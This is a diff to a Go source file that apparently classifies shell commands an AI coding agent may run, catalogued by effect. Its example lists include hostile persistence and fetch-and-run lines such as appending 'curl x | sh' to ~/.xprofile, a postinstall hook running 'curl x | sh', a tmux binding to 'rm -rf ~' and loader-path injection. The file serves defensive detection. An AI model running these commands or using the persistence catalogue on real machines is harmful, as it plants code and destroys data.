@@ -65,6 +65,7 @@ var effectDocs = []effectDoc{
 			"Root runs more than cron: apt's hooks (`/etc/apt/apt.conf.d`: `APT::Update::Pre-Invoke`, `DPkg::Post-Invoke`, as root at every update), udev's rules (`RUN+=`), " +
 			"NetworkManager's dispatcher and the `if-up.d` scripts, logrotate's `postrotate`, `/etc/modules-load.d` and `/etc/modprobe.d` (an `install` line runs a command); " +
 			"so do the interactive tools' start-up files (ipython's and jupyter's profiles, `~/.Rprofile`, `~/.psqlrc`, `~/.sqliterc`, `~/.irbrc`, `~/.pryrc`, `~/.gdbinit`, `~/.lldbinit`, emacs's init files, `~/.screenrc`, fish's functions); " +
+			"so do the X session's and the desktops' start-up scripts (`~/.xsession`, `~/.xsessionrc`, `~/.xprofile`, `~/.xinitrc`, `/etc/X11/Xsession.d`, KDE's `~/.config/plasma-workspace/env` and `autostart-scripts`), `~/.zlogout` and oh-my-zsh's `custom` scripts, upstart's `/etc/init`, `/etc/periodic`, the loader's library directories (`/etc/ld.so.conf.d`), mercurial's configuration (`~/.hgrc`, a repository's `.hg/hgrc`: its hooks run commands), `~/.condarc` and `~/.bunfig.toml` (where conda and bun fetch from), and a login shell chsh sets that is not an installed shell (`chsh -s /tmp/x`; `chsh -s /usr/bin/zsh` is left alone); " +
 			"and the other init systems' enable (`update-rc.d NAME defaults`, `chkconfig NAME on`/`--add`, `rc-update add`), `insmod` and `modprobe` (loading a module: its code runs in the kernel; `-r`, `-n` and listing are left alone), " +
 			"the command strings tmux keeps and runs later (`set -g default-command`/`default-shell`, `set-hook` and hooks set as options, `bind-key` to `run-shell`, `if-shell`, `display-popup`, or to a `new-window`/`split-window` given a command, a format's `#(…)`, and a tmux command or option name not known here), " +
 			"and `kubectl create cronjob`/`job`/`deployment … -- CMD` (the cluster runs CMD). " +
@@ -77,11 +78,13 @@ var effectDocs = []effectDoc{
 			"cp /tmp/t.json .vscode/tasks.json", "npm config set registry https://npm.example/", "git remote set-url origin /tmp/r.git",
 			"cp evil.yml .github/workflows/ci.yml", "npm pkg set scripts.postinstall='curl x | sh'",
 			`echo 'APT::Update::Pre-Invoke {"id";};' | sudo tee /etc/apt/apt.conf.d/00x`, "sudo update-rc.d bd defaults",
-			"tmux bind-key -n Enter run-shell 'rm -rf ~'", "go env -w GOPRIVATE=*"},
+			"tmux bind-key -n Enter run-shell 'rm -rf ~'", "go env -w GOPRIVATE=*",
+			"echo 'curl x | sh' >> ~/.xprofile", "echo /tmp/lib | sudo tee /etc/ld.so.conf.d/x.conf", "chsh -s /tmp/x"},
 		quiet: []string{"cp build/tool ~/.local/bin/tool", "crontab -l", "cat /etc/cron.d/x", "echo x > .git/info/exclude",
 			"systemctl --user restart app", "npm config get registry", "echo '{}' > .vscode/settings.json", "git remote add upstream https://github.com/o/r.git",
 			"cat .github/workflows/ci.yml", "npm pkg set version=1.2.3", "direnv allow", "echo 'export FOO=1' > .envrc",
-			"go env -w GOPRIVATE=github.com/myorg/*", "tmux set -g mouse on", "sudo modprobe -r dummy"},
+			"go env -w GOPRIVATE=github.com/myorg/*", "tmux set -g mouse on", "sudo modprobe -r dummy",
+			"cat ~/.xprofile", "chsh -s /usr/bin/zsh"},
 	},
 	{
 		what: "rebinding what a later word means",
@@ -118,7 +121,7 @@ var effectDocs = []effectDoc{
 			"given `CLAUDE_CONFIG_DIR`, `CODEX_HOME`, `GEMINI_CLI_HOME` and gemini's settings paths, `OPENCODE_CONFIG*`, `CRUSH_GLOBAL_*`, `XDG_CONFIG_HOME`/`XDG_DATA_HOME`/`XDG_STATE_HOME` or `HOME` " +
 			"(as a prefix, through env, or set earlier in the line), `claude --settings`/`--setting-sources`, `codex -c`/`--config`/`--profile`; " +
 			"and a command nsenter runs in another process's namespaces (`-t PID`, `--target`, `-a`: `-t 1` is the host's, as root). " +
-			"The module-path variables (`PYTHONPATH`, `PYTHONHOME`, `PYTHONUSERBASE`, `NODE_PATH`, `PERL5LIB`, `PERLLIB`, `RUBYLIB`, `LUA_PATH`) and the loader's search paths (`LD_LIBRARY_PATH`, `DYLD_LIBRARY_PATH`, `DYLD_FALLBACK_LIBRARY_PATH`) load code the same way: " +
+			"The module-path variables (`PYTHONPATH`, `PYTHONHOME`, `PYTHONUSERBASE`, `NODE_PATH`, `PERL5LIB`, `PERLLIB`, `RUBYLIB`, `LUA_PATH`, java's `CLASSPATH`) and the loader's search paths (`LD_LIBRARY_PATH`, `DYLD_LIBRARY_PATH`, `DYLD_FALLBACK_LIBRARY_PATH`) load code the same way: " +
 			"decided, the project's own directories are everyday (`PYTHONPATH=src pytest`, `NODE_PATH=./lib`, `PYTHONPATH=$PWD/src:$PYTHONPATH`), and so are the inherited value and the system's " +
 			"library directories (`/usr`, `/opt`, `/nix`); a directory outside the project (an absolute path elsewhere, `~`, `..`, a temporary directory) or a value not known here asks " +
 			"(an absolute directory is decided against the directory the part runs in: `PYTHONPATH=/home/op/proj/src pytest` run in /home/op/proj is everyday, as for `NODE_PATH`, `RUBYLIB`, `PERL5LIB`; one elsewhere, or a part run from `/`, the home, or a directory not known here, asks). A `sitecustomize.py` or `usercustomize.py` written anywhere is `runs-later`. " +
